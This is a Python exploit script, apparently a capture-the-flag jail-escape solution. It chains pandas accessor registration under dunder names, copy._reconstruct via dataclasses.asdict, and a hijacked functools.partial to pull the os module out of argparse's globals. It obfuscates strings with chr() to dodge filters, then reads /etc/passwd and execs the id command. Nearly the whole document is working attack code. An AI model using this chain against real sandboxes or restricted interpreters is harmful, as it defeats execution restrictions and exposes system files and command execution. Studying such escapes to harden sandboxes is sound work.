# source: pandas extension docs (register_*_accessor) + copy._reconstruct slotstate gadget + CTF "__globals__ via functools.update_wrapper"
# family: pandas accessor registration under run-time dunder names (__deepcopy__/__reduce_ex__ on pd.Index) -> dataclasses.asdict deep-copies -> copy._reconstruct setattr(module, name, value); swap functools.partial to capture update_wrapper; merge argparse globals into the script's
# goal: reach module os without type() as a value (prints <module 'os'>, /etc/passwd, runs id)
import argparse
import dataclasses
import functools

import pandas as pd

D = chr(95) * 2
job = []
grabbed = []


@dataclasses.dataclass
class Box:
    item: object


def no_deepcopy(obj):
    return None


def reducer(obj):
    def hook(proto):
        target, name, value = job[-1]
        return (lambda: target, (), (None, dict(zip([name], [value]))))
    return hook


pd.api.extensions.register_index_accessor(D + "deepcopy" + D)(no_deepcopy)
pd.api.extensions.register_index_accessor(D + "reduce_ex" + D)(reducer)


def set_attr(obj, name, value):
    job.append((obj, name, value))
    dataclasses.asdict(Box(pd.Index([1])))


def grab(fn, **kw):
    grabbed.append(fn)
    return lambda f: f


fh = argparse.ArgumentParser.format_help
orig = functools.partial
set_attr(functools, "partial", grab)


@functools.wraps(fh)
def helper():
    return 0


set_attr(functools, "partial", orig)
uw = grabbed[0]
uw(helper, fh, (), (D + "globals" + D,))


def run():
    print(_os, flush=True)
    fd = _os.open(chr(47) + "etc" + chr(47) + "passwd", 0)
    print(_os.read(fd, 300).decode(), flush=True)
    _os.execl(chr(47) + "usr" + chr(47) + "bin" + chr(47) + "id", "id")


run()
